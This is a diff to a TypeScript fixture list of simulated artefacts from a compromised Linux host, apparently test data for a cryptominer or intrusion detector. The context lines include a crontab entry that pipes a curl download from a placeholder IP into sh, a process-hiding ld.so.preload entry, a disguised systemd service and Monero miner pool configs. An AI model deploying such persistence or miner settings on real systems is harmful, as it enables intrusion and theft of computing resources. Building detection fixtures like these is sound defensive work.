@@ -19,6 +19,7 @@ const SAMPLES: { owner: string; path: string; text: string }[] = [
   { owner: "linux.crontab", path: "web01/var/spool/cron/crontabs/www-data", text: "*/1 * * * * curl -fsSL http://203.0.113.7/x.sh | sh\n" },
   { owner: "linux.systemd", path: "web01/etc/systemd/system/swapd.service", text: "[Unit]\nDescription=swap\n\n[Service]\nExecStart=/usr/local/bin/swapd\n" },
   { owner: "linux.ld_so_preload", path: "web01/etc/ld.so.preload", text: "/usr/local/lib/libprocesshider.so\n" },
+  { owner: "linux.hostname", path: "web01/etc/hostname", text: "web01\n" },
   { owner: "miner.config", path: "web01/root/.xmrig/config.json", text: '{\n    "donate-level": 0,\n    "randomx": { "mode": "fast" },\n    "pools": [ { "url": "gulf.moneroocean.stream:10128", "user": "4Wallet", "pass": "x" } ]\n}\n' },
   { owner: "miner.config", path: "web01/opt/xmr-stak/pools.txt", text: '"pool_list" :\n[\n\t{"pool_address" : "pool.supportxmr.com:5555", "wallet_address" : "4Wallet", "pool_password" : "x", "use_nicehash" : false, "use_tls" : false, "pool_weight" : 1 },\n],\n"currency" : "monero",\n' },
   { owner: "metrics.csv", path: "cpu.csv", text: "timestamp,host,cpu_pct\n2026-11-20T03:00:00Z,web01,97.8\n" },
